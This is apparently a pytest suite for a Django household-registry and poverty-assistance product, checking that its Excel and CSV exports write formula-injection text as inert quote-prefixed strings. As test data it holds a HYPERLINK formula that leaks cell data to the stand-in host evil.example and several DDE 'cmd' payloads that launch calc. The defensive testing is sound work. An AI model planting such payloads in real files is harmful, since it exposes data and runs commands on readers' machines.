"""Formula injection: every spreadsheet the product writes keeps typed text as text (issue 14, finding 8).

Each file is opened with openpyxl: no cell may be a formula, the hostile text must be there
unchanged (with Excel's quote prefix), numbers must stay numbers.
"""

import csv
import datetime
import io
import re
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from fupin.assistance import exports as assistance_exports
from fupin.core import spreadsheets
from fupin.funds import exports as funds_exports
from fupin.registry.importing import columns
from fupin.registry.importing import report as import_report
from fupin.registry.models import Household, ImportJob, Member
from fupin.reports import tables
from tests import factories
from tests.registry.import_files import household, write_csv

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
HOSTILE = [
    EVIL,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert(content: bytes, *expected: str) -> list:
    found = cells(content)
    assert not [c.coordinate for c in found if c.data_type == "f"]
    values = {c.value: c for c in found}
    for text in expected:
        assert text in values, text
        assert values[text].data_type == "s" and values[text].quotePrefix
    return found


def test_the_shared_helper_spots_formulas_but_not_numbers():
    for text in HOSTILE:
        assert spreadsheets.is_formula_like(text), text
    for harmless in ("张三", "", "-12.50", "+86", "1e5", "3607-22", None, -5, 1.5):
        assert not spreadsheets.is_formula_like(harmless), harmless
    assert spreadsheets.csv_text(EVIL) == "'" + EVIL and spreadsheets.csv_text("-12.50") == "-12.50"
    sheet = spreadsheets.new_workbook(write_only=True).create_sheet()
    plain = ["张三", "12.50", "1"]
    assert spreadsheets.safe_row(sheet, plain) is plain  # the fast path leaves a clean row alone
    assert spreadsheets.safe_row(sheet, ["张三", "-12.50"]) == ["张三", "-12.50"]
    for row in ([EVIL, "张三"], ["张三", "\t=1"], [1, None, "@x"]):
        cells = [c for c in spreadsheets.safe_row(sheet, row) if hasattr(c, "data_type")]
        assert len(cells) == 1 and cells[0].data_type == "s" and cells[0].quotePrefix


def test_household_export_writes_a_hostile_name_as_text(client, users):
    h = factories.make_household(head="张三丰", members=2)
    Member.objects.filter(household=h, relation="head").update(name=EVIL)
    Member.objects.filter(household=h).exclude(relation="head").update(name="@SUM(1+9)*cmd|' /C calc'!A0")
    Household.objects.filter(pk=h.pk).update(head_name=EVIL)
    client.force_login(users["county"])
    response = client.get(reverse("registry:household_export"))
    assert response.status_code == 200
    found = assert_inert(b"".join(response.streaming_content), EVIL, "@SUM(1+9)*cmd|' /C calc'!A0")
    # the plain cells are untouched: no quote prefix where none is needed
    assert not any(c.quotePrefix for c in found if c.value == "张小1" or c.value == "江西省")


def test_import_error_report_echoes_hostile_cells_as_text(client, users, tmp_path):
    rows = household("王大山", **{"耕地面积（亩）": "=1+1"})
    rows[0]["姓名"] = EVIL
    rows[0]["户主姓名"] = EVIL
    rows[1]["证件号码"] = "-2+3+cmd|' /C calc'!A0"
    path = write_csv(tmp_path / "evil.csv", rows)
    client.force_login(users["clerk"])
    response = client.post(
        reverse("registry:import_upload"),
        {"file": SimpleUploadedFile("evil.csv", path.read_bytes(), content_type="text/csv")},
    )
    assert response.status_code == 302
    job = ImportJob.objects.get()
    assert job.error_file
    report = client.get(reverse("registry:import_errors", args=[job.pk]))
    assert report.status_code == 200
    assert_inert(b"".join(report.streaming_content), "=1+1", "-2+3+cmd|' /C calc'!A0")


def test_import_error_report_as_csv_past_excels_rows(monkeypatch):
    monkeypatch.setattr(import_report, "XLSX_MAX_ROWS", 1)
    out = io.BytesIO()
    errors = [
        import_report.RowError(2, "姓名", EVIL, "格式不对"),
        import_report.RowError(3, "收入", "-12.50", "太少"),
    ]
    assert import_report.write_error_report(errors, out) == ".csv"
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
    assert rows[1][2] == "'" + EVIL and rows[2][2] == "-12.50"


def test_import_template_sheets_are_text_only():
    out = io.BytesIO()
    import_report.write_template(out, [[EVIL] + [""] * (len(columns.HEADINGS) - 1)])
    assert_inert(out.getvalue(), EVIL)


def test_monitoring_and_demand_reports_write_names_as_text():
    row = {
        "township_name": EVIL,
        "helper": "+1+cmd|' /C calc'!A0",
        "unit": "@x",
        "phone": "-1+1",
        "households": 1,
        "measures": 2,
        "measures_done": 1,
        "measures_overdue": 0,
        "completion": -50.0,
        "planned_amount": 1,
        "actual_amount": 1,
        "funds_rate": 100.0,
        "income_increase": 0,
        "visits": 1,
        "visited_households": 1,
        "unvisited_households": 0,
        "helpers": 1,
    }
    report = {"rows": [row], "townships": [row], "totals": row, "year": 2025, "month": 6}
    found = assert_inert(
        assistance_exports.monitoring_xlsx(report), EVIL, "+1+cmd|' /C calc'!A0", "@x", "-1+1"
    )
    negative = [c for c in found if c.value == -50.0]
    assert negative and all(c.data_type == "n" for c in negative)  # negative numbers stay numbers
    item = SimpleNamespace(name=EVIL, get_group_display=lambda: "\t=1+1")
    demand = {
        "villages": [
            {
                "township_name": "镇",
                "village_name": "村",
                "village_code": "360722100001",
                "item": item,
                "households": 1,
                "measures": 1,
                "planned_amount": 1,
            }
        ],
        "townships": [],
        "items": [],
    }
    assert_inert(assistance_exports.demand_xlsx(demand), EVIL, "\t=1+1")


def test_funds_spreadsheets_write_names_as_text():
    region = SimpleNamespace(name=EVIL)
    loan = SimpleNamespace(
        borrower_name="@SUM(1+9)*cmd|' /C calc'!A0",
        region=region,
        bank="+bank",
        contract_no="-1+2",
        amount_fen=100,
        maturity_on=datetime.date(2026, 1, 1),
        reminder_sent_on=None,
        unpaid_fen=-100,
        defaulted_on=datetime.date(2026, 1, 1),
        loss_fen=0,
        paid_out_fen=0,
        recovered_fen=0,
    )
    content = funds_exports.loan_reports_xlsx(
        SimpleNamespace(name="信丰县"),
        datetime.date(2025, 12, 1),
        maturing=[loan],
        overdue=[loan],
        defaulted=[loan],
    )
    found = assert_inert(content, EVIL, "@SUM(1+9)*cmd|' /C calc'!A0", "+bank", "-1+2")
    assert any(c.value == -1 and c.data_type == "n" for c in found)
    mismatch = SimpleNamespace(label="金额不符", code="=1+1", name=EVIL, library="1", ledger="2", row=3)
    ledger = SimpleNamespace(year=2025)
    assert_inert(funds_exports.mismatches_xlsx(ledger, [mismatch]), EVIL, "=1+1")


def test_standard_tables_write_region_names_as_text():
    table = tables.Table(
        "scale",
        "表1 测试",
        ["户数"],
        rows=[{"code": "360722", "name": EVIL, "cells": [(-3, "/x")]}],
        notes=["-注：=1+1"],
    )
    found = assert_inert(tables.to_xlsx([table], heading="@heading"), EVIL, "-注：=1+1", "@heading")
    assert any(c.value == -3 and c.data_type == "n" for c in found)


FUPIN = Path(__file__).resolve().parents[2] / "fupin"
# files the product writes only for its own machinery (DuckDB and PostgreSQL COPY input), never handed to a
# person
# (a pushed department event is written as a one-row list for the cross-check's DuckDB join)
INTERNAL = {
    "monitoring/matching.py",
    "monitoring/pushed.py",
    "registry/importing/bulk.py",
    "registry/importing/payloads.py",
}


def test_every_spreadsheet_writer_goes_through_the_shared_helper():
    """A future writer cannot forget: openpyxl workbooks and csv writers are made in
    fupin/core/spreadsheets.py only."""
    offenders = []
    for path in FUPIN.rglob("*.py"):
        rel = path.relative_to(FUPIN).as_posix()
        if rel == "core/spreadsheets.py" or rel in INTERNAL or "/migrations/" in rel:
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bWorkbook\(|csv\.(writer|DictWriter)\(|\bwrite_csv\(", text):
            offenders.append(rel)
    assert not offenders, f"write spreadsheets with fupin.core.spreadsheets: {offenders}"
